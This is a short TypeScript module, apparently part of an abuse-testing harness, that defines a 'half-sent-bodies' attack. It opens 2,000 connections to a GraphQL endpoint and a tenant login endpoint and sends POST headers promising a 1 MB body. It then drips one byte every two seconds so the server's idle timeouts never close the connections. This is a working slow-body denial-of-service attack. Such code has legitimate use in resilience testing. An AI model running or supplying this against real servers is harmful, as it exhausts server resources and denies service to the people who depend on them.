import type { Abuse } from './abuse.types.ts';
import { holdOpen, requestBytes } from './connections.ts';

const connections = 2_000;
const json = { 'content-type': 'application/json', 'content-length': 1_000_000 };
const paths = ['/graphql', '/tenant-auth/v1/login'];
/** Milliseconds between two bytes: a server with an idle timeout sees that bytes still arrive. */
const pace = 2_000;

/** Requests whose bodies never end. */
export const halfSentBodies: Abuse = {
  name: 'half-sent-bodies',
  run: (attack) =>
    holdOpen(attack, connections, (socket, index) => {
      socket.write(requestBytes(attack, 'POST', paths[index % 2] ?? '', json, '{"query":"'));
      const drip = setInterval(() => socket.write('x'), pace);
      socket.resume().once('close', () => clearInterval(drip));
    }),
};
